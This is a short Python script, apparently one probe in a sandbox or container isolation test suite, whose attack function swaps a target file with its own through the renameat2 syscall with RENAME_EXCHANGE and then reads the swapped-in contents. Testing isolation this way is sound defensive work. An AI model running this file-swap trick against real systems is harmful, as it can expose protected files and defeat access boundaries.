import os

from calls import AT_FDCWD, call
from inside import run, show

RENAMEAT2 = 316 if os.uname().machine == "x86_64" else 276
RENAME_EXCHANGE = 2


def attack(target):
    with open(f"{target.work}/mine", "w") as file:
        file.write("mine")
    call(RENAMEAT2, AT_FDCWD, target.file.encode(), AT_FDCWD, file.name.encode(), RENAME_EXCHANGE)
    with open(file.name, "rb") as file:
        show(file.read())


run(attack)
